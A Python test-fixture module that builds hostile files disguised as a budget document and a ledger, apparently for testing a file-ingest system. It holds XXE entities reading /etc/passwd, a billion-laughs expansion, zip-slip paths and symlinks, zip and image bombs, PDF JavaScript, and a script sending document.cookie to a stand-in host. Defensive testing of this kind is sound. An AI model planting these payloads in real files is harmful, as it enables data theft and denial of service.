"""Files that mean harm, or look as if they did: small to write, expensive or dangerous to whoever trusts them."""

from __future__ import annotations

import io
import stat
import struct
import zipfile
import zlib
from pathlib import Path

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
SECRET = "root:x:0:0"
"""What would stand in an answer that had read /etc/passwd."""
_ENTITIES = '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
_LAUGHS = "<!DOCTYPE x [<!ENTITY a0 'ha'>" + "".join(
    f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10)
) + "]>"  # fmt: skip


def packed(members: dict[str, bytes], *, base: bytes | None = None) -> bytes:
    """Return a zip with these members, in place of those of the same name in ``base``."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        if base is not None:
            with zipfile.ZipFile(io.BytesIO(base)) as before:
                for name in before.namelist():
                    if name not in members:
                        archive.writestr(name, before.read(name))
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def document() -> bytes:
    """Return a real DOCX to hide things in."""
    return (EXAMPLES / "documents" / "department-budget-2024.docx").read_bytes()


def workbook() -> bytes:
    """Return a real ledger to hide things in."""
    return (EXAMPLES / "ledgers" / "2024" / "305001.xlsx").read_bytes()


def _part(data: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name).decode()


def with_entities(data: bytes, name: str, declared: str, used: str) -> bytes:
    """Return an office file with a document type declared in a part, and its entity used in the first text."""
    text = _part(data, name)
    head, mark, rest = text.partition("?>")
    rest = rest.replace("</w:t>", f"{used}</w:t>", 1).replace("</t>", f"{used}</t>", 1)
    return packed({name: (head + mark + declared + rest).encode()}, base=data)


def many_entries(count: int) -> bytes:
    """Return a zip whose directory has ``count`` entries and whose content is one empty file."""
    name = b"a0000000"
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0) + name
    entry = struct.Struct("<IHHHHHHIIIHHHHHII")
    head = entry.pack(0x02014B50, 20, 20, 0, 0, 0, 0, 0, 0, 0, 8, 0, 0, 0, 0, 0, 0)
    directory = b"".join(head + b"a%07d" % n for n in range(count))
    at = len(local) + len(directory)
    end = struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, count, count, len(directory), len(local))
    end += struct.pack("<IIQI", 0x07064B50, 0, at, 1)
    end += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return local + directory + end


def with_links() -> bytes:
    """Return a zip with links that lead out of it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, target in (("公开.docx", "/etc/passwd"), ("附件", "../../.."), ("附件/secret.txt", "/etc/passwd")):
            info = zipfile.ZipInfo(name)
            info.create_system = 3
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(info, target)
    return buffer.getvalue()


def picture(width: int, height: int) -> bytes:
    """Return a PNG that says it is this large, with next to nothing in it."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 100)) + chunk(b"IEND", b"")
    )


def pdf(*, action: str = "", box: str = "0 0 595 842", content: str = "BT /F1 12 Tf 72 700 Td (x) Tj ET") -> bytes:
    """Return a PDF of one page with an action at its opening."""
    objects = [
        f"<</Type/Catalog/Pages 2 0 R{action}>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        f"<</Type/Page/Parent 2 0 R/MediaBox[{box}]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
        f"<</Length {len(content)}>>\nstream\n{content}\nendstream",
        "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ]
    body, places = "%PDF-1.7\n", []
    for number, text in enumerate(objects, 1):
        places.append(len(body))
        body += f"{number} 0 obj\n{text}\nendobj\n"
    table = "".join(f"{place:010d} 00000 n \n" for place in places)
    start = len(body)
    body += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}"
    return (body + f"trailer\n<</Size {len(objects) + 1}/Root 1 0 R>>\nstartxref\n{start}\n%%EOF\n").encode()


def documents() -> dict[str, tuple[str, bytes]]:
    """Return name of a trick → name and content of a file that says it is a published budget."""
    word, main = document(), "word/document.xml"
    macros = packed({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0Attribute VB_Name = AutoOpen"}, base=word)
    script = b"<html><script>fetch('http://192.0.2.1/'+document.cookie)</script><body>2024"
    return {
        "entities that read files": ("预算.docx", with_entities(word, main, _ENTITIES, "&secret;")),
        "entities that multiply": ("预算.docx", with_entities(word, main, _LAUGHS, "&a9;")),
        "members that lead out": ("预算.docx", packed({"../../../../tmp/yusuan-slipped": b"x"}, base=word)),
        "macros": ("预算.docm", macros),
        "a picture without end": ("预算.docx", packed({"word/media/image1.png": picture(65500, 65500)}, base=word)),
        "a picture alone": ("预算.pdf", picture(65500, 65500)),
        "a program": ("预算.docx", b"MZ\x90\x00\x03\x00\x00\x00" + bytes(range(256)) * 40),
        "a page and a picture": ("预算.html", b"GIF89a/*" + script + b"*/"),
        "a PDF and an archive": ("预算.pdf", pdf() + packed({"a.html": script})),
        "a PDF with a script": ("预算.pdf", pdf(action="/OpenAction<</S/JavaScript/JS(app.launchURL\\('x'\\))>>")),
        "a page without end": ("预算.pdf", pdf(box="0 0 9999999 9999999")),
        "links": ("预算.zip", with_links()),
        "two endings": ("预算.docx.html", script),
        "a name from right to left": ("预算\u202exslx.html", script),
        "zeros": ("预算.zip", packed({"预算.docx": b"\0" * 60_000_000})),
        "folders without end": ("预算.zip", packed({"a/" * 1500 + "预算.docx": word})),
        "many entries": ("预算.zip", many_entries(120_000)),
        "many parts": ("预算.docx", packed({f"word/media/{n}.xml": b"" for n in range(21_000)}, base=word)),
    }


def workbooks() -> dict[str, tuple[str, bytes]]:
    """Return name of a trick → name and content of a file that says it is a ledger."""
    ledger, strings = workbook(), "xl/sharedStrings.xml"
    with zipfile.ZipFile(io.BytesIO(ledger)) as archive:
        sheets = [info for info in archive.infolist() if info.filename.startswith("xl/worksheets/sheet")]
    sheet = max(sheets, key=lambda info: info.file_size).filename
    wide = _part(ledger, sheet).replace(
        "<sheetData>", '<sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    )
    name = strings if strings in zipfile.ZipFile(io.BytesIO(ledger)).namelist() else sheet
    return {
        "entities that read files": ("台账.xlsx", with_entities(ledger, name, _ENTITIES, "&secret;")),
        "entities that multiply": ("台账.xlsx", with_entities(ledger, name, _LAUGHS, "&a9;")),
        "zeros": ("台账.xlsx", packed({sheet: b"<worksheet>" + b"\0" * 60_000_000}, base=ledger)),
        "many entries": ("台账.xlsx", many_entries(120_000)),
        "the last cell there is": ("台账.xlsx", packed({sheet: wide.encode()}, base=ledger)),
        "a document": ("台账.xlsx", document()),
        "a PDF": ("台账.xlsx", pdf()),
        "a page": ("台账.xlsx.html", b"<html><script>alert(1)</script>"),
    }
